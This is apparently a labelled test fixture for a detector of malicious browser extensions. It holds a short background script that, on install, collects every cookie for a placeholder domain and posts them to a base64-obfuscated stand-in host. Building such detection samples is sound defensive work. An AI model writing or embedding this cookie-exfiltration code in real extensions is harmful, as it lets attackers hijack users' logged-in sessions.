// expect: malicious
// source: session-cookie stealing browser extensions (Cyberhaven-style extension takeovers, 2024-12; Facebook
// business-account stealers): the background script reads every cookie of a domain and posts them to a host
// it decodes at run time.
const endpoint = atob('aHR0cHM6Ly9jZmcuYWQtaGVscGVyLmV4YW1wbGUvc3luYw==');
chrome.runtime.onInstalled.addListener(() => {
  chrome.cookies.getAll({ domain: 'facebook.com.invalid' }, (cookies) => {
    fetch(endpoint, { method: 'POST', body: JSON.stringify(cookies) });
  });
});
